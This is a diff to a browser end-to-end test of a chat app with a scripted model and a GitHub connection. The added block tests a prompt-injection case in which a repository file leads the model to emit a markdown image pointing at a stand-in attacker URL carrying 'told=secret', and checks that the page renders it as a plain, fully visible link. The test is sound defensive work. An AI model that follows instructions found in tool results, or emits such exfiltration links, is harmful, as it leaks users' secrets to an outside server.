@@ -74,7 +74,7 @@ await withWorld({ local, executablePath, options }, async ({ browser, applicatio
   await alice.getByText("I am the scripted model").waitFor();
   step("alice signs in and is answered");
 
-  await say(alice, "Which repositories do I have?");
+  await say(alice, "Which repositories do I have, private ones too?");
   const link = alice.getByRole("link", { name: "Connect GitHub" });
   await link.waitFor();
   await shoot(alice, "interrupted");
@@ -107,6 +107,18 @@ await withWorld({ local, executablePath, options }, async ({ browser, applicatio
   await alice.locator(".prose").getByText("octo-alice/diary").nth(1).waitFor();
   step("the next turn needs no consent");
 
+  // The writer of the file wants the page to send something to their server.
+  await say(alice, "(obeys results) Please read links.md in octo-mallory/trap");
+  await alice.locator(".target").getByText("(https://mallory.example/pixel.png?told=secret)").waitFor();
+  const image = alice.locator(".prose a[href*='pixel.png']");
+  assert.equal(await image.innerText(), "image: See");
+  assert.equal(await alice.locator("img, .prose [style], .prose script").count(), 0);
+  for (const link of await alice.locator(".prose a[href*='mallory']").all()) {
+    const after = await link.evaluate((it) => it.nextElementSibling?.textContent ?? it.textContent);
+    assert.ok(after.includes(await link.getAttribute("href")), `${after} does not say where it leads`);
+  }
+  step("an image that the model was told to say is a link, and a link shows its address, all of it");
+
   const create = "Please create an issue in octo-alice/diary: Water the Tomatoes";
   await say(alice, create);
   let box = await toApprove(alice);
@@ -136,7 +148,7 @@ await withWorld({ local, executablePath, options }, async ({ browser, applicatio
   step("asked again and approved, it is done, once");
 
   await bob.goto(application);
-  await say(bob, "Which repositories do I have?");
+  await say(bob, "Which repositories do I have, private ones too?");
   const asked = bob.getByRole("link", { name: "Connect GitHub" });
   const [refusing] = await Promise.all([bob.context().waitForEvent("page"), asked.click()]);
   await refusing.getByRole("button", { name: "Cancel" }).click();
@@ -163,7 +175,7 @@ await withWorld({ local, executablePath, options }, async ({ browser, applicatio
   await other.getByRole("button", { name: "Sign in again" }).click();
   await other.getByRole("button", { name: "Sign in as Bob Example" }).click();
   await other.getByText("Signed in as Bob Example (bob@example.com)").waitFor();
-  await say(alice, "Which repositories do I have?");
+  await say(alice, "Which repositories do I have, private ones too?");
   await alice.locator(".problem").getByText("Another person has signed in in this browser").waitFor();
   await shoot(alice, "stale");
   await alice.locator(".problem").getByRole("button", { name: "Reload" }).click();
